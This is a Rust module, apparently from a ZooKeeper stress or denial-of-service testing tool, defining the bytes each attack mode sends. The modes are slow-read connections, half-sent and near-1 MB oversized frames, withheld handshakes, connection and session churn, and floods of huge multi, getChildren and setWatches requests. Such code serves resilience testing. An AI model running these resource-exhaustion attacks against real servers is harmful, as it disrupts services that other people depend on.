//! What each attack sends.

use zabra::proto::multi::MultiOp;
use zabra::proto::{ConnectRequest, Request};
use zabra::types::{Op, SessionId, Zxid};

use super::socket::Hello;
use crate::args::{Args, Attack};
use crate::frames::{path, put_set_watches, stem};
use crate::steady::parents;

/// Data of the large znode: just below jute.maxbuffer together with stat and header.
const LARGE: usize = 1_000_000;
const CHILDREN: u64 = 10_000;
/// Paths in one setWatches: about 0.9 MB.
const WATCH_LIST: u64 = 8_000;

/// What a connection does once a second.
pub(super) enum Trickle {
    Nothing,
    Ping,
    SendByte,
    ReadByte,
}

pub(super) struct Plan {
    attack: Attack,
    root: String,
    timeout_ms: i32,
    depth: u64,
    watches: u64,
    /// The repeated request, without its xid.
    request: Vec<u8>,
}

impl Plan {
    pub(super) fn new(args: &Args, attack: Attack) -> Plan {
        let mut plan = Plan {
            attack,
            root: args.root.clone(),
            timeout_ms: args.session_timeout_ms,
            depth: args.depth.into(),
            watches: args.watches.into(),
            request: Vec::new(),
        };
        plan.request = plan.repeated(args.ops);
        plan
    }

    pub(super) fn name(&self) -> String {
        format!("{:?}", self.attack).to_lowercase()
    }

    fn large(&self) -> String {
        format!("{}/large", self.root)
    }

    fn parent(&self) -> String {
        format!("{}/many", self.root)
    }

    /// Znodes that must exist, with their data.
    pub(super) fn znodes(&self) -> Vec<(String, Vec<u8>)> {
        let mut all: Vec<_> = parents(&self.root).map(|p| (p, Vec::new())).collect();
        all.push((format!("{}/small", self.root), Vec::new()));
        match self.attack {
            Attack::Slow | Attack::Large => all.push((self.large(), vec![b'l'; LARGE])),
            Attack::SlowMixed | Attack::Children => all.push((self.parent(), Vec::new())),
            _ => {}
        }
        all
    }

    /// Children that must exist.
    pub(super) fn children(&self) -> impl Iterator<Item = String> {
        let wanted = matches!(self.attack, Attack::SlowMixed | Attack::Children);
        let stem = stem(&self.parent(), 'c', Some(60));
        (0..if wanted { CHILDREN } else { 0 }).map(move |n| path(&stem, n))
    }

    /// Whether the rate is that of connections, not of requests.
    pub(super) fn is_paced_by_connects(&self) -> bool {
        matches!(self.attack, Attack::Churn | Attack::Connects)
    }

    /// Whether it closes as soon as it is connected.
    pub(super) fn leaves_at_once(&self) -> bool {
        self.attack == Attack::Connects
    }

    /// Whether it closes its session as soon as it has one.
    pub(super) fn closes_sessions(&self) -> bool {
        self.attack == Attack::Churn
    }

    /// Whether it sends requests continuously.
    pub(super) fn asks(&self) -> bool {
        matches!(self.attack, Attack::Multi | Attack::Children | Attack::Large | Attack::SetWatches)
    }

    /// Whether it reads what it receives.
    pub(super) fn reads(&self) -> bool {
        !matches!(self.attack, Attack::Slow | Attack::SlowMixed)
    }

    pub(super) fn hello(&self, at: usize) -> Hello {
        let mut bytes = Vec::new();
        ConnectRequest {
            protocol_version: 0,
            last_zxid_seen: Zxid(0),
            timeout_ms: self.timeout_ms,
            session: SessionId::NONE,
            passwd: vec![0; 16],
            read_only: Some(false),
        }
        .put(&mut bytes);
        match self.attack {
            Attack::Silent if at.is_multiple_of(2) => Hello { bytes: Vec::new(), whole: false, withheld: 0 },
            Attack::Silent => Hello { withheld: bytes.len() - 4, bytes: bytes[..4].to_vec(), whole: false },
            Attack::Connects => Hello { bytes: Vec::new(), whole: false, withheld: 0 },
            _ => Hello { bytes, whole: true, withheld: 0 },
        }
    }

    pub(super) fn trickle(&self, at: usize) -> Trickle {
        match self.attack {
            Attack::Half => Trickle::SendByte,
            Attack::Silent if at % 2 == 1 => Trickle::SendByte,
            Attack::Slow | Attack::SlowMixed if at % 2 == 1 => Trickle::ReadByte,
            Attack::Idle | Attack::Watches => Trickle::Ping,
            _ => Trickle::Nothing,
        }
    }

    /// A frame that is begun but not completed.
    pub(super) fn unfinished(&self) -> Option<Vec<u8>> {
        let mut frame = (LARGE as i32).to_be_bytes().to_vec();
        match self.attack {
            Attack::Half => Some(frame),
            Attack::Swollen => {
                frame.extend_from_slice(&1i32.to_be_bytes());
                frame.extend_from_slice(&Op::SET_DATA.0.to_be_bytes());
                frame.resize(4 + LARGE - 1, 0);
                Some(frame)
            }
            _ => None,
        }
    }

    /// Number of requests sent as soon as there is a session.
    pub(super) fn first_requests(&self) -> u64 {
        match self.attack {
            Attack::Slow | Attack::SlowMixed => self.depth,
            Attack::Watches => self.watches,
            _ => 0,
        }
    }

    pub(super) fn put_first(&self, out: &mut Vec<u8>, xid: i32, n: u64) {
        match self.attack {
            Attack::Watches => {
                let path = path(&stem(&self.root, 'w', Some(60)), n).into();
                Request::Exists { path, watch: true }.put_framed(xid, Op::EXISTS, out);
            }
            Attack::SlowMixed if n % 8 == 7 => {
                let path = self.small().into();
                Request::SetData { path, data: Some(b"x"), version: -1 }.put_framed(xid, Op::SET_DATA, out);
            }
            _ => self.put_request(out, xid),
        }
    }

    pub(super) fn put_request(&self, out: &mut Vec<u8>, xid: i32) {
        let start = out.len();
        out.extend_from_slice(&self.request);
        out[start + 4..start + 8].copy_from_slice(&xid.to_be_bytes());
    }

    fn repeated(&self, ops: u32) -> Vec<u8> {
        let mut out = Vec::new();
        match self.attack {
            Attack::Slow | Attack::Large => {
                Request::GetData { path: self.large().into(), watch: false }.put_framed(0, Op::GET_DATA, &mut out);
            }
            Attack::SlowMixed | Attack::Children => {
                let request = Request::GetChildren { path: self.parent().into(), watch: false };
                request.put_framed(0, Op::GET_CHILDREN2, &mut out);
            }
            Attack::Multi => self.put_multi(&mut out, ops),
            Attack::SetWatches => {
                let stem = stem(&self.root, 'w', Some(110));
                let paths: Vec<String> = (0..WATCH_LIST).map(|n| path(&stem, n)).collect();
                put_set_watches(&mut out, 0, i64::MAX, &paths);
            }
            _ => {}
        }
        out
    }

    /// Appends a multi that sets a small znode `ops` times: nearly a megabyte in total.
    fn put_multi(&self, out: &mut Vec<u8>, ops: u32) {
        let each = (LARGE - 100) / ops as usize;
        let path = self.small();
        // The header, two lengths and the version.
        let data = vec![b'm'; each.saturating_sub(9 + 4 + path.len() + 4 + 4)];
        let set = || MultiOp::SetData { path: (&path).into(), data: Some(&data), version: -1 };
        Request::Multi((0..ops).map(|_| set()).collect()).put_framed(0, Op::MULTI, out);
    }

    fn small(&self) -> String {
        format!("{}/small", self.root)
    }
}
